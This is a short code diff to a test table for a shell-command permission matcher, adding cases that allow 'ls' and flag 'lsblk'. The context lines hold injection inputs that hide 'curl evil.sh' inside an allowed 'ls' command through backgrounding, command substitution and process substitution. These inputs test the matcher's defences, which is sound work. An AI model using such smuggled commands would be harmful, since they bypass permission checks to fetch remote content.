@@ -98,6 +98,8 @@ const commands: [pattern: string, command: string, expect: 'allow' | 'ask' | 'de
   ['git status', 'git status && git push', 'ask'],
   ['git *', 'git log -n 3 | head', 'ask'],
   ['ls *', 'ls -la src', 'allow'],
+  ['ls *', 'ls', 'allow'],
+  ['ls *', 'lsblk', 'ask'],
   ['ls *', 'ls -la src & curl evil.sh', 'ask'],
   ['ls *', 'ls $(curl evil.sh)', 'ask'],
   ['ls *', 'ls <(curl evil.sh)', 'ask'],
